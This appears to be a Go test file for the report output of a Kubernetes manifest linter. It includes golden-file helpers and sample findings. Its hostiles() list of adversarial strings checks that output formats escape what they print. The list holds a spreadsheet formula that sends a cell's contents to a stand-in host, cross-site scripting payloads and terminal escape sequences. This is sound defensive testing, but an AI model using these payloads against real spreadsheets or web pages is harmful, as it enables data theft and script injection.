package output_test

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/kubereeve/reeve/internal/app/cli/output"
	"github.com/kubereeve/reeve/internal/app/cli/terminal"
	"github.com/kubereeve/reeve/internal/finding"
	"github.com/kubereeve/reeve/internal/resource"
	"github.com/kubereeve/reeve/internal/rule"
	"github.com/kubereeve/reeve/internal/rule/dialect"
	"github.com/kubereeve/reeve/internal/rule/source"
)

var update = flag.Bool("update", false, "write the golden files anew")

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v; go test ./internal/app/cli/output -update writes it", err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s is another (-want +got); where that is right, go test ./internal/app/cli/output -update writes it anew:\n%s", file, diff)
	}
}

// rules returns the rules of testdata/rules.
func rules(t *testing.T) *rule.Set {
	t.Helper()
	set, problems := source.Load(dialect.All(), source.Directory("testdata/rules"))
	if len(problems) > 0 {
		t.Fatal(problems[0])
	}
	return set
}

// written returns a report in a format.
func written(t *testing.T, report *output.Report, options output.Options) string {
	t.Helper()
	options.Version, options.Directory = "v1.2.3", "/work"
	if options.Look.Width == 0 {
		options.Look = terminal.Look{Width: 120}
	}
	var out bytes.Buffer
	if err := output.Write(&out, report, options); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func object(kind, namespace, name string) resource.Identity {
	versions := map[string]string{"Deployment": "apps/v1", "ClusterRole": "rbac.authorization.k8s.io/v1"}
	version, ok := versions[kind]
	if !ok {
		version = "v1"
	}
	return resource.Identity{APIVersion: version, Kind: kind, Namespace: namespace, Name: name}
}

// sample returns a report of files with a bit of everything.
func sample(t *testing.T) *output.Report {
	t.Helper()
	set := rules(t)
	report := &output.Report{Resources: 9, Violating: 3, Rules: set, Subject: "deploy/", Program: "reeve"}
	add := func(id string, res resource.Identity, container, path, message, file string, line int) {
		r := set.Rule(id)
		if container != "" {
			message = fmt.Sprintf("container %q: %s", container, message)
		}
		f := finding.Finding{
			Rule: id, Severity: r.Severity, Mode: r.Mode, Resource: res, Container: container, Path: path, Message: message, Remediation: r.Remediation,
		}
		if file != "" {
			f.Source = &resource.Source{File: file, Line: line}
		}
		report.Findings = append(report.Findings, f)
	}
	web, api := object("Deployment", "shop", "web"), object("Deployment", "shop", "api")
	add("privileged", web, "nginx", "spec.template.spec.containers[0].securityContext.privileged", "privileged is true; set it to false", "deploy/web.yaml", 20)
	add("privileged", web, "side", "spec.template.spec.containers[1].securityContext.privileged", "privileged is true; set it to false", "deploy/web.yaml", 31)
	add("privileged", api, "api", "spec.template.spec.containers[0].securityContext.privileged", "privileged is true; set it to false", "/elsewhere/a b.yaml", 7)
	add("requests", web, "nginx", "spec.template.spec.containers[0].resources.requests.cpu", "requests.cpu is missing; set it", "deploy/web.yaml", 18)
	add("requests", web, "nginx", "spec.template.spec.containers[0].resources.requests.memory", "requests.memory is missing; set it", "deploy/web.yaml", 18)
	add("wildcard", object("ClusterRole", "", "everything"), "", "rules[0].verbs", `verbs has "*"; list the verbs that are needed`, "<stdin>", 4)
	report.Failures = []output.Failure{
		{File: "deploy/broken.yaml", Line: 3, Message: "invalid YAML: mapping values are not allowed"},
		{File: "deploy/web.yaml", Line: 1, Rule: "wildcard", Cause: finding.CauseEval, Message: "conflict",
			Resource: &output.Identity{APIVersion: "v1", Kind: "Role", Namespace: "shop", Name: "r"}},
	}
	report.Images = map[output.Container]string{{Resource: web, Name: "nginx"}: "docker.io/library/nginx:1.29"}
	report.Sort()
	return report
}

// hostiles are texts that mean something to a format, or to what reads it.
func hostiles() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1",
		"a|b", `a\|b`, `a\`, "a`b", "``` a", "`|`", "**bold** _it_ ~~x~~", "# heading", "- item", "1. item", "[link](javascript:alert(1))",
		"![image](http://evil.example/x.png)", "<script>alert(1)</script>", "</td></tr></table><h1>", "<img src=x onerror=alert(1)>", "<!-- -->", "-->",
		"]]>", "&lt;b&gt;", "&#60;", `"quoted"`, "it's", "a,b;c", "@octocat", "#123", "http://evil.example", "www.evil.example", "$x^2$",
		"</script><script>alert(1)</script>", "</style>", "{{.}}", "{0}", "%s%d", "${x}", "\x1b[31mred\x1b[0m", "\x00nul", "\x07bell", "\x7fdel",
		"line\nbreak", "\u202eabc", "\u200bzero", "\uFFFE", "\u2028", "日本語", "😀", "e\u0301", "bad\xffutf8", "null", "~", "yes", ": x", "'",
	}
}

// hostile returns a report whose every text is hostile, each in every place.
func hostile(t *testing.T) *output.Report {
	t.Helper()
	report := &output.Report{Rules: rules(t), Subject: "<b>subject</b>\x1b", Program: "reeve", Resources: 1}
	for i, text := range hostiles() {
		report.Findings = append(report.Findings, finding.Finding{
			Rule: "privileged", Severity: finding.Critical, Mode: finding.Deny,
			Resource:  resource.Identity{APIVersion: text, Kind: text, Namespace: text, Name: text},
			Container: text, Path: text, Message: fmt.Sprintf("%s finding-%04d", text, i),
			Source: &resource.Source{File: text, Line: i},
		})
		report.Failures = append(report.Failures, output.Failure{File: text, Rule: "requests", Cause: text, Message: text,
			Resource: &output.Identity{APIVersion: text, Kind: text, Namespace: text, Name: text}})
	}
	report.Violating = 1
	report.Sort()
	return report
}

// tokens are the words by which findings are counted.
func tokens(n int) []string {
	words := make([]string, n)
	for i := range words {
		words[i] = fmt.Sprintf("finding-%04d", i)
	}
	return words
}

// plain undoes what Markdown and HTML make of a token.
var plain = strings.NewReplacer("\\", "", "<!-- -->", "")
